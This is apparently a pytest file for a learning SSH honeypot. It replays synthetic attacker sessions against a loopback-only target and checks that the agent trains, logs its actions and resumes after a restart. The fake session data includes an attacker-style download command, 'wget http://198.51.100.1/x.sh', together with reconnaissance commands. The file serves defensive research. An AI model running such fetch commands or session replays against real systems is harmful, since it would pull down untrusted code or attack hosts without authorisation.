"""The agent decides, learns on the way, and goes on after a restart."""
import json, os, pathlib, subprocess

import pytest

from honeypot import BINARY, Honeypot, ROOT

SESSIONS = ROOT.parent / "shared/data/sessions.jsonl.gz"


def attack(pot, *args):
    r = subprocess.run([BINARY, "attack", "--target", f"127.0.0.1:{pot.port}", "--quiet", *args],
                       capture_output=True, text=True, timeout=900)
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)


def plan(tmp_path, n):
    """A collection of our own: n sessions of a few commands."""
    path = tmp_path / "sessions.jsonl"
    with open(path, "w") as f:
        for i in range(n):
            f.write(json.dumps({"id": f"t{i}", "protocol": "ssh", "src": f"s{i % 7}",
                                "logins": [["root", "a", False], ["root", "b", True]],
                                "events": [{"t": 0, "type": "command", "input": c, "kind": "exec"}
                                           for c in ("uname -a", "cat /proc/cpuinfo", f"echo {i} > /tmp/f{i}",
                                                     "wget http://198.51.100.1/x.sh")]}) + "\n")
    return str(path)


def test_attack_refuses_others_than_loopback():
    r = subprocess.run([BINARY, "attack", "--sessions", "/dev/null", "--target", "192.0.2.1:22"],
                       capture_output=True, text=True)
    assert r.returncode == 2 and "loopback" in r.stderr


def test_learner_trains_and_continues(tmp_path):
    state = tmp_path / "state"
    state.mkdir()
    opts = dict(policy_agent="dqn", learner_observe=50, learner_batch=16, policy_delay_ms=10,
                learner_publish="200ms", sensor_count=1)
    with Honeypot(state, **opts) as p:
        sent = attack(p, "--sessions", plan(tmp_path, 40), "--concurrency", "4", "--spread")
        assert sent["sessions"] == 40 and sent["unreachable"] == 0
        p.wait("the end of all sessions", lambda: len(p.events("cowrie.session.closed")) == 40)
        assert len(p.events("cowrie.login.success")) == sent["accepted"]
        execs = len(p.events("cowrie.command.input"))
        assert execs == sent["execs"]
        published = p.wait("a trained policy", lambda: [
            e for e in p.events("qrassh.policy.published") if e["steps"] > 0])
        assert published[-1]["loss"] >= 0 and 0 < published[-1]["epsilon"] <= 1
        actions = {e["action"] for e in p.events("qrassh.command.action")}
        assert actions == {"allow", "delay", "fake", "insult", "block"}
        ends = [t for t in p.events("qrassh.transition") if t["done"]]
        with_commands = {e["session"] for e in p.events("qrassh.command.action")}
        assert {t["session"] for t in ends} == with_commands
        seen = published[-1]["seen"]
    with Honeypot(state, **opts) as p:
        p.wait_log(r"going on from .*version \d+, \d+ transitions")
        first = p.wait_events("qrassh.policy.published", count=len(published) + 1)
        assert first[-1]["seen"] >= seen


@pytest.mark.skipif(not SESSIONS.exists(), reason="no recorded sessions at hand")
def test_recorded_sessions():
    n = int(os.environ.get("QRASSH_TEST_SESSIONS", "60"))
    with Honeypot(policy_agent="dqn", policy_delay_ms=10) as p:
        sent = attack(p, "--sessions", str(SESSIONS), "--limit", str(n), "--concurrency", "8", "--spread")
        p.wait("the end of all sessions", lambda: len(p.events("cowrie.session.closed")) >= sent["sessions"], 120)
        assert len(p.events("cowrie.login.success")) == sent["accepted"]
        p.wait("agreement", lambda: p.sql("select count(*) from sessions")[0][0] == sent["sessions"])
        p.wait("agreement", lambda: p.sql("select count(*) from input where success = 1")[0][0] == len(p.events("cowrie.command.input")))
